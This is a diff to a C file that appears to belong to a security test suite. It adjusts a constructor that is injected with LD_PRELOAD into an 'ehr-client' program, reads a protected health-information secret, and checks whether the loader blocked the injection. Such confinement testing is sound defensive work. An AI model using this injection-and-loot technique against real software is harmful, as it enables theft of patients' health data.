@@ -1,4 +1,5 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
+/* CFLAGS: -fPIC */
 /* LD_PRELOAD into the approved program by its own user. */
 #include "attack.h"
 #include <elf.h>
@@ -32,9 +33,14 @@ static int make_library(const char *path)
 
 __attribute__((constructor)) static void in_the_client(void)
 {
-	if (getenv("FOREIGN_CODE") && strcmp(program_invocation_short_name, "ehr-client") == 0) {
+	char comm[16] = "";
+
+	prctl(PR_GET_NAME, comm);
+	if (getenv("FOREIGN_CODE") && strcmp(comm, "ehr-client") == 0) {
 		fprintf(stderr, "foreign code runs: ");
-		_exit(loot_path(SECRET));
+		int r = loot_path(SECRET);
+		fflush(NULL);
+		_exit(r);
 	}
 }
 
@@ -65,7 +71,7 @@ static int run_client(const char *exe, char *const env[], void (*before)(void))
 		len += (size_t)got;
 	waitpid(pid, &status, 0);
 	if (!strstr(text, "foreign code runs"))
-		return refused_silently("the loader left it out");
+		return fputs(text, stderr), refused_silently("the loader left it out");
 	if (memmem(text, len, "PHI-SECRET:", 11))
 		return loot(text, len);
 	fprintf(stderr, "%s\n", text);
